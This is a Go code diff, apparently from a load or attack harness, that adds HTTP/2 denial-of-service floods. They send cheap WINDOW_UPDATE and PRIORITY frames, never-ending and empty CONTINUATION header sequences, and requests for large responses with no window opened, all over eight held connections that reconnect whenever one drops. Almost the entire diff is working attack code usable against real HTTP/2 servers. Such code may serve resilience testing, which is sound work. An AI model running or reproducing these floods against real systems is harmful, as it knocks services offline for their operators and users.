@@ -6,7 +6,7 @@ import (
 	"bytes"
 	"context"
 	"io"
-	"net"
+	"sync/atomic"
 	"time"
 
 	"golang.org/x/net/http2"
@@ -42,6 +42,36 @@ func h2ControlFrames(ctx context.Context, a *attackers) {
 	})
 }
 
+// floods are frames that cost their sender nothing, one kind for each connection in turn.
+var floods = []func(framer *http2.Framer, stream uint32) error{
+	func(framer *http2.Framer, _ uint32) error { return framer.WriteWindowUpdate(0, 1) },
+	func(framer *http2.Framer, stream uint32) error {
+		return framer.WritePriority(stream, http2.PriorityParam{StreamDep: 0, Weight: uint8(stream)})
+	},
+	// A head that never ends, in pieces that hold a field each.
+	func(framer *http2.Framer, stream uint32) error {
+		if stream == 1 {
+			return framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: headerBlock(steady, "/")})
+		}
+		return framer.WriteContinuation(1, false, endless)
+	},
+	// One that holds nothing at all.
+	func(framer *http2.Framer, stream uint32) error {
+		if stream == 1 {
+			return framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: headerBlock(steady, "/")})
+		}
+		return framer.WriteContinuation(1, false, nil)
+	},
+}
+
+var endless = encode([]hpack.HeaderField{{Name: "x-endless", Value: string(bytes.Repeat([]byte("x"), 64))}})
+
+// A connection that ends, as one does whose head is too large, is followed by another.
+func h2Floods(ctx context.Context, a *attackers) {
+	var next atomic.Int64
+	a.held(ctx, 8, func() { a.flood(ctx, floods[int(next.Add(1)-1)%len(floods)]) })
+}
+
 // Large responses are asked for, and no window is ever opened for them.
 func h2UnreadResponses(ctx context.Context, a *attackers) {
 	head := headerBlock(rotatingHost, "/large")
@@ -62,45 +92,20 @@ func h2UnreadResponses(ctx context.Context, a *attackers) {
 
 // h2 holds eight connections of HTTP/2, on each of which something is done five hundred times a second with the number of the next stream.
 func (a *attackers) h2(ctx context.Context, do func(framer *http2.Framer, stream uint32) error) {
-	a.held(ctx, 8, func() {
-		c, framer, err := a.dialH2(ctx, steady)
-		if err != nil {
+	a.held(ctx, 8, func() { a.flood(ctx, do) })
+}
+
+func (a *attackers) flood(ctx context.Context, do func(framer *http2.Framer, stream uint32) error) {
+	c, framer, err := a.dialH2(ctx, steady)
+	if err != nil {
+		return
+	}
+	defer c.Close()
+	go func() { _, _ = io.Copy(io.Discard, c) }()
+	for stream := uint32(1); ctx.Err() == nil; stream += 2 {
+		if err := do(framer, stream); err != nil {
 			return
 		}
-		defer c.Close()
-		go func() { _, _ = io.Copy(io.Discard, c) }()
-		for stream := uint32(1); ctx.Err() == nil; stream += 2 {
-			if err := do(framer, stream); err != nil {
-				return
-			}
-			pause(ctx, 2*time.Millisecond)
-		}
-	})
-}
-
-func (a *attackers) dialH2(ctx context.Context, host string, settings ...http2.Setting) (net.Conn, *http2.Framer, error) {
-	c, err := a.dialTLS(ctx, host, "h2")
-	if err != nil {
-		return nil, nil, err
+		pause(ctx, 2*time.Millisecond)
 	}
-	framer := http2.NewFramer(c, nil)
-	_, err = io.WriteString(c, http2.ClientPreface)
-	if err == nil {
-		err = framer.WriteSettings(settings...)
-	}
-	if err != nil {
-		_ = c.Close()
-		return nil, nil, err
-	}
-	return c, framer, nil
-}
-
-// headerBlock is the head of a GET.
-func headerBlock(host, path string) []byte {
-	var block bytes.Buffer
-	encoder := hpack.NewEncoder(&block)
-	for _, field := range []hpack.HeaderField{{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "https"}, {Name: ":authority", Value: host}, {Name: ":path", Value: path}} {
-		_ = encoder.WriteField(field) // to memory
-	}
-	return block.Bytes()
 }
